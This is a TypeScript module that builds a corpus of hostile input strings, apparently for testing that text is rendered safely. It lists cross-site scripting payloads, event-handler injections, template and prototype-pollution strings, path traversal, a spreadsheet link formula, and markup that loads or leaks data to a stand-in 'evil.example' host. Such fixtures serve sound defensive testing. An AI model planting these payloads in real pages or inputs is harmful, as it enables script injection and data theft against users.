const RUN = 'globalThis.pwned=1;alert(document.domain)'
const TAGS = [
  'img',
  'svg',
  'iframe',
  'video',
  'audio',
  'body',
  'input',
  'details',
  'math',
  'object',
  'style',
  'a',
  'xss',
  'marquee',
]
const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onclick',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbeforetoggle',
]
const BREAKS = ['', '">', "'>", '</script>', '--></style></title></textarea>', '`${']

// Each is what somebody once got through somewhere: markup, addresses, markdown, templates, styles, directions.
const SINGLES = [
  `<script>${RUN}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src="https://evil.example/pixel.png?secret=1">`,
  `![leak](https://evil.example/pixel.png?secret=1)`,
  `[click](javascript:${RUN})`,
  `<a href="javascript:${RUN}">x</a>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<link rel="prefetch" href="https://evil.example/p">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><button>x</button></form>`,
  `<style>@import url(https://evil.example/x.css);</style>`,
  `<div style="background:url(https://evil.example/x.png)">x</div>`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `{{constructor.constructor('${RUN}')()}}`,
  '${globalThis.pwned=1}',
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<template><script>${RUN}</script></template>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `__proto__`,
  `constructor`,
  `../../etc/passwd`,
  `=HYPERLINK("https://evil.example","x")`,
  `\u202Etxt.exe`,
  `\u2028\u2029${RUN}`,
  '\u0000\u0001\u001B[31mred',
  '\u{1F9D1}\u200D\u{1F680}\u0301'.repeat(40),
  'a'.repeat(900),
]

/** Texts that would run, load or break something where they were taken for anything but text. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...SINGLES,
  ...BREAKS.flatMap((start) =>
    TAGS.flatMap((tag) =>
      HANDLERS.map((handler) => `${start}<${tag} src=x autofocus tabindex=1 open ${handler}=${RUN}>x</${tag}>`),
    ),
  ),
  ...BREAKS.slice(1).flatMap((start) => SINGLES.slice(0, 12).map((text) => `${start}${text}`)),
]
